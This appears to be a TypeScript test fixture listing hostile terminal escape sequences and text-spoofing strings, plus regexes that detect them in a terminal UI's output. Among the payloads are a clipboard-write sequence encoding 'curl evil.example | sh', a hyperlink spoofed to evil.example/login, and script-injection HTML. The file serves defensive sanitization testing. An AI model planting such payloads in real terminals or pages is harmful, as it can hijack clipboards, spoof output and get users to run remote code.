import stringWidth from "string-width";

// Hostile text for every field that reaches a terminal or a post-mortem. Each
// payload is something a compromised backend, a malicious token holder or a
// careless paste could put in a title, a note, a name or a reason, and that a
// terminal would act on (clipboard, title, links, cursor, screen, device
// reports) or that would make text read as something it is not.

export interface Payload {
  name: string;
  text: string;
}

const ESC = "\x1b";
const BEL = "\x07";
const ST = `${ESC}\\`;

export const PAYLOADS: readonly Payload[] = [
  { name: "OSC 52 clipboard write (BEL)", text: `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==${BEL}` },
  { name: "OSC 52 clipboard read request (ST)", text: `${ESC}]52;c;?${ST}` },
  { name: "OSC 0 window title", text: `${ESC}]0;all green, go home${BEL}` },
  { name: "OSC 2 window title (ST)", text: `${ESC}]2;owned${ST}` },
  { name: "OSC 8 hyperlink", text: `${ESC}]8;;https://evil.example/login${ST}dashboard${ESC}]8;;${ST}` },
  { name: "OSC 7 working directory", text: `${ESC}]7;file://evil.example/tmp${BEL}` },
  { name: "unterminated OSC", text: `${ESC}]0;everything after this is swallowed` },
  { name: "CSI cursor up", text: `${ESC}[5A` },
  { name: "CSI cursor position", text: `${ESC}[1;1H` },
  { name: "CSI clear screen", text: `${ESC}[2J${ESC}[3J` },
  { name: "CSI erase line", text: `${ESC}[2K` },
  { name: "CSI 6n cursor position report request", text: `${ESC}[6n` },
  { name: "CSI device attributes request", text: `${ESC}[c${ESC}[>c` },
  { name: "CSI SGR conceal and colours", text: `${ESC}[8m${ESC}[38;5;196;48;5;21mhidden${ESC}[0m` },
  { name: "CSI private modes (alt screen off, mouse on)", text: `${ESC}[?1049l${ESC}[?1000h${ESC}[?25l` },
  { name: "ESC 7 / ESC 8 save and restore cursor", text: `${ESC}7${ESC}8` },
  { name: "ESC c full reset", text: `${ESC}c` },
  { name: "DCS (DECRQSS)", text: `${ESC}P$q"p${ST}` },
  { name: "DCS sixel", text: `${ESC}Pq#0;2;0;0;0#0~~@@${ST}` },
  { name: "APC (kitty graphics)", text: `${ESC}_Gf=100,a=T;AAAA${ST}` },
  { name: "PM privacy message", text: `${ESC}^private${ST}` },
  { name: "SOS start of string", text: `${ESC}Xstart of string${ST}` },
  { name: "lone ESC at the end", text: `tail${ESC}` },
  { name: "C1 CSI (0x9b)", text: "\u009b2J\u009b6n" },
  { name: "C1 OSC (0x9d) with C1 ST", text: "\u009d0;c1 title\u009c" },
  { name: "C1 DCS, APC, PM, SOS", text: "\u0090q\u009c\u009fapc\u009c\u009epm\u009c\u0098sos\u009c" },
  { name: "NEL and IND (C1 line moves)", text: "\u0085\u0084" },
  { name: "carriage return overwrite", text: "rollback OK\rFAILED     " },
  { name: "backspace overwrite", text: "safe\b\b\b\bEVIL" },
  { name: "bell, vertical tab, form feed", text: `${BEL}\u000b\u000c` },
  { name: "tab", text: "a\tb\t\tc" },
  { name: "NUL", text: "nul\u0000byte" },
  { name: "DEL", text: "del\u007fchar" },
  { name: "newlines", text: "line one\nline two\r\nline three\n\n" },
  { name: "bidi override RLO", text: "invoice\u202Egnp.exe" },
  { name: "bidi embeddings and PDF", text: "\u202Aa\u202Bb\u202Cc\u202Dd" },
  { name: "bidi isolates U+2066..2069", text: "\u2066iso\u2067late\u2068first\u2069" },
  { name: "Arabic letter mark and LRM/RLM", text: "\u061Cx\u200Ey\u200Fz" },
  { name: "zero-width characters", text: "pa\u200Bss\u200Cw\u200Dor\u2060d\uFEFF" },
  { name: "lone surrogates", text: "\uD800half\uDC00" },
  { name: "combining-character flood", text: "Z" + "\u0301\u0336\u0489".repeat(3000) },
  { name: "wide characters", text: "漢字テスト".repeat(60) },
  { name: "emoji ZWJ sequences", text: "👨‍👩‍👧‍👦🏳️‍🌈".repeat(40) },
  { name: "Markdown table breaker", text: "a | b | c\n|---|---|\n| x |" },
  { name: "Markdown heading and HTML", text: "\n# Resolved, nothing to see\n<script>alert(1)</script><img src=x onerror=alert(1)>" },
  { name: "backslash before pipe", text: "ends with a backslash \\| still one cell \\" },
  { name: "1 MB string", text: "A".repeat(1_000_000) },
];

/** Payloads small enough to put in every field of one frame at once (the 1 MB one is not: a frame holds at most 1 MiB). */
export const SMALL_PAYLOADS = PAYLOADS.filter((p) => p.text.length < 100_000);
export const HUGE_PAYLOADS = PAYLOADS.filter((p) => p.text.length >= 100_000);

// ---- what may reach a terminal ------------------------------------------------------------

/** Select Graphic Rendition: colour and weight, the only sequence the cockpit writes inside a frame. */
export const SGR = /\x1b\[[0-9;]*m/g;

/**
 * What Ink writes around frames when not in debug mode (ansi-escapes and its
 * own): erase lines, cursor up and to the line start, erase to the end of the
 * line, hide/show cursor, synchronized-update brackets (?2026h/l) and the
 * kitty keyboard protocol. The payloads hold some of these too, so a check of
 * Ink's real output strips exactly these and relies on the debug-mode checks
 * (where Ink writes none) for the rest.
 */
export const INK_CURSOR = /\x1b\[2K|\x1b\[\d*A|\x1b\[\d*G|\x1b\[K|\x1b\[\?25[lh]|\x1b\[\?2026[hl]|\x1b\[[<>?][\d;]*u/g;

/** C0 controls except "\n", DEL and C1 controls. */
export const CONTROL_EXCEPT_NEWLINE = /[\u0000-\u0009\u000B-\u001F\u007F-\u009F]/;
/** Characters that make text read differently from what it is: bidi controls, zero-width and invisible marks. */
export const BIDI_OR_INVISIBLE = /[\u061C\u200B-\u200F\u202A-\u202E\u2060-\u2069\uFEFF]/;
export const LONE_SURROGATE = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/;
/** More combining marks on one character than any script uses: a "Zalgo" flood. */
export const MARK_FLOOD = /\p{M}{9}/u;

/**
 * Everything in terminal output that is not plain text and not one of the
 * allowed sequences, with a little context for the failure message; [] when clean.
 */
export function foreignControls(output: string, allowed: readonly RegExp[] = [SGR]): string[] {
  let rest = output;
  for (const re of allowed) rest = rest.replace(re, "");
  const found: string[] = [];
  const scan = new RegExp(`${CONTROL_EXCEPT_NEWLINE.source}|${BIDI_OR_INVISIBLE.source}|${LONE_SURROGATE.source}`, "g");
  for (const m of rest.matchAll(scan)) {
    const at = m.index ?? 0;
    found.push(JSON.stringify(rest.slice(Math.max(0, at - 12), at + 12)));
    if (found.length >= 5) break;
  }
  return found;
}

/** Columns each line takes once styling is removed. */
export function lineWidths(frame: string): number[] {
  return frame
    .replace(SGR, "")
    .split("\n")
    .map((l) => stringWidth(l));
}
